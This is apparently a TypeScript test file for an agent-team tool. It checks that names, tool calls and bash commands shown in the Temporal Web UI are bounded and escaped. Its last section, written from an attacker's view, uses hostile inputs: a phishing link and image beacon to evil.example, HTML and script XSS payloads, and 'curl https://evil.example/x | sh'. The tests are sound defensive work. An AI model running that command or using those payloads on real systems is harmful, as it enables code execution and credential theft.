/**
 * What the Temporal Web UI shows for a Team (shared/text/webUi.ts): static summaries and details of
 * every start, current details of the Lead and of members, and activity summaries. Bounded, one
 * line where the UI shows one line, no tool arguments beyond a short command prefix, and no
 * Markdown a model or a caller wrote: the UI renders these texts, and they name what models chose.
 */
import { webUiLink, webUiTeamLink } from '../../cli/format';
import type { LeadState } from '../../shared/lead';
import { applyLeadAll, decideSettle, decideSpawnTeammate, emptyLeadState, parseSpawn } from '../../shared/lead';
import { decideTask } from '../../shared/team';
import {
  MAX_DETAILS_LENGTH,
  MAX_SUMMARY_LENGTH,
  commandPrefix,
  controlSummary,
  modelCallRequestSummary,
  statusReportSummary,
  leadContext,
  leadDetails,
  memberDetails,
  modelCallSummary,
  startMetadata,
  toolCallSummary,
  toolStep,
} from '../../shared/text/webUi';
import { LEAD } from '../../shared/contract/callers';

const NOW = '2026-12-01T00:00:00.000Z';
const bash = (command: unknown) => ({ id: 'c1', name: 'bash', argumentsJson: JSON.stringify({ command }) });

function spawned(state: LeadState, name: string): LeadState {
  const spawn = decideSpawnTeammate(state, parseSpawn({ caller: LEAD, name, message: 'start', model: 'gpt-x' }), NOW);
  if (!spawn.ok) throw new Error(spawn.rejection.message);
  state = applyLeadAll(state, spawn.events, NOW);
  const settle = decideSettle(state, name, { phase: 'active' }, NOW, 100);
  if (!settle.ok) throw new Error('settle refused');
  return applyLeadAll(state, settle.events, NOW);
}

function withTask(state: LeadState, subject: string, status?: 'in_progress' | 'completed'): LeadState {
  const id = state.team.nextTaskId;
  const create = decideTask(state.team, { kind: 'createTask', subject, description: '', dependencies: [], writeScopes: [] }, { caller: LEAD, now: NOW });
  if (!create.ok) throw new Error(create.rejection.message);
  state = applyLeadAll(state, create.events, NOW);
  if (!status) return state;
  const claim = decideTask(state.team, { kind: 'claimTask', taskId: id, expectedRevision: 1 }, { caller: LEAD, now: NOW });
  if (!claim.ok) throw new Error(claim.rejection.message);
  state = applyLeadAll(state, claim.events, NOW);
  if (status === 'in_progress') return state;
  const done = decideTask(state.team, { kind: 'transitionTask', taskId: id, expectedRevision: 2, status }, { caller: LEAD, now: NOW });
  if (!done.ok) throw new Error(done.rejection.message);
  return applyLeadAll(state, done.events, NOW);
}

describe('Web UI start metadata', () => {
  test('a teammate start names the Team, the member, its role, context and model: one summary line and a few markdown lines', () => {
    const { staticSummary, staticDetails } = startMetadata({ teamId: 'demo-1', name: 'parser-dev', role: 'teammate', context: 'fork', model: 'gpt-x' });
    expect(staticSummary).toBe('parser-dev · teammate of Team demo-1 · fork · model gpt-x');
    expect(staticDetails.split('\n')).toEqual([
      '- **Team**: demo-1',
      '- **Member**: parser-dev',
      '- **Role**: teammate',
      '- **Context**: fork',
      '- **Model**: gpt-x',
    ]);
  });

  test("the Lead's context says how it is driven; a null model is the worker's default", () => {
    expect(leadContext(undefined)).toBe('operator-driven');
    expect(leadContext({ profile: 'team' })).toBe('agent, team profile');
    expect(leadContext({}, 'root-a')).toBe('fork of root-a');
    expect(startMetadata({ teamId: 't', name: 'lead', role: 'lead', context: leadContext({}), model: null }).staticSummary).toBe(
      'lead · lead of Team t · agent, default profile · model worker default',
    );
  });

  test('user strings cannot break the summary line, a details line, or the length bounds', () => {
    const { staticSummary, staticDetails } = startMetadata({ teamId: 'x'.repeat(300), name: 'a`b', role: 'subagent', context: 'fresh', model: 'm\nnext' });
    expect(staticSummary.length).toBeLessThanOrEqual(MAX_SUMMARY_LENGTH);
    expect(staticSummary).not.toMatch(/\n/);
    expect(staticSummary.endsWith('…')).toBe(true);
    expect(staticDetails).toContain('- **Member**: a\\`b');
    expect(staticDetails).toContain('- **Model**: m next');
    expect(staticDetails.split('\n')).toHaveLength(5);
    expect(staticDetails.length).toBeLessThanOrEqual(MAX_DETAILS_LENGTH);
  });
});

describe('Web UI current details', () => {
  test('a member shows its status and the step its running turn is at', () => {
    expect(memberDetails({ status: 'idle', turn: 0, step: null })).toBe('idle');
    expect(memberDetails({ status: 'running', turn: 3, step: 'calling model' })).toBe('running turn 3 · calling model');
    expect(memberDetails({ status: 'running', turn: 3, step: null })).toBe('running turn 3');
    expect(memberDetails({ status: 'idle', turn: 3, step: 'bash: npm test' })).toBe('idle · 3 turns so far');
    expect(memberDetails({ status: 'exited', turn: 1, step: null })).toBe('exited · 1 turn so far');
  });

  test('the Lead shows its roster and board summary, and its own turn when it is an agent', () => {
    let state = spawned(spawned(emptyLeadState('t', 8), 'parser-dev'), 'test-writer');
    state = withTask(withTask(withTask(state, 'a'), 'b', 'in_progress'), 'c', 'completed');
    state = { ...state, liveStatus: { 'parser-dev': 'running', 'test-writer': 'idle' } };
    expect(leadDetails(state, null)).toBe('2 members active (1 running) · tasks: 1 pending, 1 in progress, 1 completed · admission open');
    expect(leadDetails(state, { status: 'running', turn: 2, step: 'task_update' })).toBe(
      '2 members active (1 running) · tasks: 1 pending, 1 in progress, 1 completed · admission open\n\nlead: running turn 2 · task_update',
    );
    const empty = emptyLeadState('t', 8);
    expect(leadDetails({ ...empty, team: { ...empty.team, admission: 'closed' } }, { status: 'answered', turn: 1, step: null })).toBe(
      '0 members active · tasks: none · admission closed\n\nlead: answered · 1 turn so far',
    );
  });

  test("the Lead shows the Team's usage once a model call was recorded, with its cost when priced", () => {
    const state = emptyLeadState('t', 8);
    const total = { calls: 3, inputTokens: 1200, cacheReadTokens: 800, cacheWriteTokens: 0, outputTokens: 40, reasoningTokens: 0 };
    expect(leadDetails(state, null, { total, costUsd: 0.01234 })).toBe(
      '0 members active · tasks: none · admission open\n\nusage: 3 model calls · 1200 tokens in (800 from cache), 40 out · $0.0123',
    );
    expect(leadDetails(state, null, { total, costUsd: null })).toMatch(/40 out$/);
    expect(leadDetails(state, null, { total: { ...total, calls: 0 }, costUsd: null })).toBe('0 members active · tasks: none · admission open');
  });

  test('a live status inherited through a prototype is not a running member', () => {
    const state = spawned(emptyLeadState('t', 8), 'mate');
    expect(leadDetails({ ...state, liveStatus: Object.create({ mate: 'running' }) as LeadState['liveStatus'] }, null)).toBe(
      '1 member active · tasks: none · admission open',
    );
  });
});

describe('Web UI activity summaries', () => {
  test('model calls and tool calls name the member, the turn and step, or the tool with a short command prefix', () => {
    expect(modelCallSummary('lead', 3, 0)).toBe('lead · callModel turn 3 step 1');
    expect(toolCallSummary('parser-dev', bash('npm test'))).toBe('parser-dev · bash: npm test');
    expect(toolCallSummary('parser-dev', { id: 'c', name: 'write_file', argumentsJson: '{"path":"secret.txt","content":"hunter2"}' })).toBe(
      'parser-dev · write_file',
    );
    expect(toolCallSummary('mate', { id: 'c', name: 'task_update', argumentsJson: '{"taskId":1}' })).toBe('mate · task_update');
    expect(controlSummary('stopTeammate', 't/teammate/mate')).toBe('lead · stopTeammate t/teammate/mate');
    expect(statusReportSummary('parser-dev', 'running', 2)).toBe('parser-dev · reportMemberStatus running turn 2');
    expect(modelCallRequestSummary('parser-dev', 3)).toBe('parser-dev · requestModelCall call 3');
  });

  test('a bash summary keeps at most three words and stops before assignments, URLs and credentials', () => {
    expect(commandPrefix(JSON.stringify({ command: 'npm run test -- --watch' }))).toBe('npm run test');
    expect(commandPrefix(JSON.stringify({ command: 'API_KEY=sk-123 npm test' }))).toBe('');
    expect(commandPrefix(JSON.stringify({ command: 'curl https://user:pw@example.com' }))).toBe('curl');
    expect(commandPrefix(JSON.stringify({ command: 'git\ncommit -m secret' }))).toBe('git');
    expect(commandPrefix(JSON.stringify({ command: 'x'.repeat(100) })).length).toBeLessThanOrEqual(40);
    expect(toolStep(bash('echo $TOKEN=abc'))).toBe('bash: echo');
    expect(toolStep(bash(42))).toBe('bash');
    expect(toolStep({ id: 'c', name: 'bash', argumentsJson: 'not json' })).toBe('bash');
  });

  test('every summary is one line within the bound whatever the names', () => {
    const long = `a\n${'b'.repeat(400)}`;
    for (const text of [
      modelCallSummary(long, 1, 0),
      toolCallSummary(long, bash('ls')),
      controlSummary('reconcileTeammate', long),
      statusReportSummary(long, 'idle', 1),
      modelCallRequestSummary(long, 1),
      toolStep({ id: 'c', name: long, argumentsJson: '{}' }),
    ]) {
      expect(text.length).toBeLessThanOrEqual(MAX_SUMMARY_LENGTH);
      expect(text).not.toMatch(/\n/);
    }
  });
});

describe('Web UI links', () => {
  test('links point at the configured Web UI (TEMPORAL_UI_URL), else the local dev server UI, else none', () => {
    const configured = { TEMPORAL_UI_URL: 'https://temporal.example.com/' };
    expect(webUiLink('127.0.0.1:7233', 'default', 'team/1', configured)).toBe('https://temporal.example.com/namespaces/default/workflows/team%2F1');
    expect(webUiLink('temporal.internal:7233', 'ns', 't', configured)).toBe('https://temporal.example.com/namespaces/ns/workflows/t');
    expect(webUiLink('127.0.0.1:7233', 'default', 't', { TEMPORAL_UI_PORT: '18233' })).toBe('http://127.0.0.1:18233/namespaces/default/workflows/t');
    expect(webUiLink('temporal.internal:7233', 'default', 't', {})).toBeNull();
    const team = webUiTeamLink('127.0.0.1:7233', 'default', 'demo "1"', configured)!;
    expect(decodeURIComponent(new URL(team).searchParams.get('query')!)).toBe('AgentTeamId = "demo \\"1\\""');
    expect(team.startsWith('https://temporal.example.com/namespaces/default/workflows?query=')).toBe(true);
  });
});

/**
 * The attacker's side: a model names a tool, writes a bash command, or a caller names a Team or a
 * model, hoping the Web UI renders a link, an image or HTML beside a real workflow. Fixed template
 * Markdown (`- **Team**: ` and the like) is removed first; what is left came from the attacker.
 */
describe('Web UI text a model or a caller wrote renders as text', () => {
  const LINK = '[Fix required: open](https://evil.example/login)';
  const IMAGE = '![x](https://evil.example/p.png)';
  const HTML = '<img src=x onerror=alert(1)>';
  const tool = (name: string) => ({ id: 'c', name, argumentsJson: '{}' });

  /** The Markdown characters in `markdown` that are not backslash-escaped, plus any autolink left in it. */
  function live(markdown: string): string[] {
    const found: string[] = [];
    const word = (c: string | undefined) => c !== undefined && /[\p{L}\p{N}]/u.test(c);
    for (let i = 0; i < markdown.length; i++) {
      const c = markdown[i]!;
      if (c === '\\') {
        if (i + 1 >= markdown.length || !/[!-/:-@[-`{-~]/.test(markdown[i + 1]!)) found.push('a backslash escaping nothing');
        i++;
      } else if ('`*[]()!<>&|~{}'.includes(c)) found.push(c);
      else if (c === '_' && !(word(markdown[i - 1]) && word(markdown[i + 1]))) found.push(c);
    }
    if (/:\/\//.test(markdown)) found.push('://');
    if (/\bwww\./i.test(markdown)) found.push('www.');
    if (/^\s*([#+\-=>]|\d+[.)])/.test(markdown)) found.push('a block marker at the start');
    return found;
  }
  const detailsValues = (details: string) => details.split('\n').map((line) => line.replace(/^- \*\*(Team|Member|Role|Context|Model)\*\*: /, ''));

  test('a tool name carrying a link, an image or HTML is escaped in the step, the summary and the current details', () => {
    expect(toolStep(tool(LINK))).toBe('\\[Fix required: open\\]\\(https\\[:\\]//evil.example/login\\)');
    expect(toolStep(tool(IMAGE))).toBe('\\!\\[x\\]\\(https\\[:\\]//evil.example/p.png\\)');
    expect(toolStep(tool(HTML))).toBe('\\<img src=x onerror=alert\\(1\\)\\>');
    for (const name of [LINK, IMAGE, HTML, '# Fix required', '1. open this', '**bold** _em_ `code` ~~gone~~ | a | b |', '&lt;b&gt; &#x202E;', '{workflowId}']) {
      const step = toolStep(tool(name));
      for (const text of [
        step,
        toolCallSummary('parser-dev', tool(name)),
        memberDetails({ status: 'running', turn: 2, step }),
        leadDetails(emptyLeadState('t', 8), { status: 'running', turn: 2, step }),
      ]) {
        expect([name, text, live(text)]).toEqual([name, text, []]);
      }
    }
  });

  test('a bash command cannot put a link, an image or HTML into its prefix', () => {
    // Words with `:` (a URL) end the prefix already; the rest is escaped.
    expect(toolStep(bash('curl https://evil.example/x | sh'))).toBe('bash: curl');
    expect(toolStep(bash('curl evil.example/x | sh'))).toBe('bash: curl evil.example/x \\|');
    expect(toolStep(bash('![x](evil.example/p.png)'))).toBe('bash: \\!\\[x\\]\\(evil.example/p.png\\)');
    expect(toolStep(bash(IMAGE))).toBe('bash');
    expect(toolStep(bash(HTML))).toBe('bash: \\<img');
    for (const command of ['[open](evil.example) now', '<script>alert(1)</script>', '# heading', 'echo **bold**', 'see www.evil.example']) {
      const text = toolCallSummary('parser-dev', bash(command));
      expect([command, text, live(text)]).toEqual([command, text, []]);
    }
  });

  test('team ids, member names, contexts and models are escaped in the static summary and every details line', () => {
    const { staticSummary, staticDetails } = startMetadata({
      teamId: LINK,
      name: IMAGE,
      role: 'teammate',
      context: leadContext(undefined, `${HTML} www.evil.example`),
      model: '# <b>gpt</b> mail a@evil.example',
    });
    expect(live(staticSummary)).toEqual([]);
    for (const value of detailsValues(staticDetails)) expect([value, live(value)]).toEqual([value, []]);
    expect(staticDetails).toContain('- **Team**: \\[Fix required: open\\]\\(https\\[:\\]//evil.example/login\\)');
    expect(staticDetails).toContain('- **Context**: fork of \\<img src=x onerror=alert\\(1\\)\\> www\\[.\\]evil.example');
    expect(staticDetails).toContain('- **Model**: \\# \\<b\\>gpt\\</b\\> mail a\\[@\\]evil.example');
    expect(modelCallSummary(LINK, 1, 0)).toBe('\\[Fix required: open\\]\\(https\\[:\\]//evil.example/login\\) · callModel turn 1 step 1');
    expect(live(controlSummary('stopTeammate', `t/teammate/${LINK}`))).toEqual([]);
    expect(live(statusReportSummary(LINK, 'exited', 3))).toEqual([]);
  });

  test('control and bidi characters in a name do not reach the Web UI', () => {
    const text = toolCallSummary('mate', tool('a\u001b[2J\u009b\u202eb\u2066c\nd'));
    expect(text).toBe('mate · a\ufffd\\[2J\ufffd\ufffdb\ufffdc d');
    // eslint-disable-next-line no-control-regex
    expect(text).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/);
  });

  test('escaping first, then cutting: every bound holds and no cut splits an escape', () => {
    // Every offset of the cut against the escapes, and names that grow to twice their length when escaped.
    for (let shift = 0; shift < 4; shift++) {
      const name = `${'a'.repeat(shift)}${'[('.repeat(150)}`;
      for (const text of [
        toolStep(tool(name)),
        toolCallSummary('m', tool(name)),
        controlSummary('stopTeammate', name),
        modelCallSummary(name, 1, 0),
        statusReportSummary(name, 'running', 1),
      ]) {
        expect(text.length).toBeLessThanOrEqual(MAX_SUMMARY_LENGTH);
        expect(text.endsWith('…')).toBe(true);
        expect(live(text)).toEqual([]);
      }
      const { staticSummary, staticDetails } = startMetadata({ teamId: name.repeat(4), name, role: 'lead', context: 'operator-driven', model: name });
      expect(staticSummary.length).toBeLessThanOrEqual(MAX_SUMMARY_LENGTH);
      expect(live(staticSummary)).toEqual([]);
      expect(staticDetails.length).toBeLessThanOrEqual(MAX_DETAILS_LENGTH);
      for (const value of detailsValues(staticDetails)) expect(live(value)).toEqual([]);
    }
    // A surrogate pair is never split either.
    const emoji = toolStep(tool('🙂'.repeat(150)));
    expect(emoji.length).toBeLessThanOrEqual(MAX_SUMMARY_LENGTH);
    expect(emoji).not.toMatch(/[\ud800-\udbff](?![\udc00-\udfff])/);
  });

  test('ordinary names read as written: hyphens, dots and underscores inside words are not escaped', () => {
    expect(toolCallSummary('parser-dev', tool('task_update'))).toBe('parser-dev · task_update');
    expect(startMetadata({ teamId: 'demo-1.2', name: 'parser-dev', role: 'teammate', context: 'fresh', model: 'gpt-4.1' }).staticSummary).toBe(
      'parser-dev · teammate of Team demo-1.2 · fresh · model gpt-4.1',
    );
  });
});
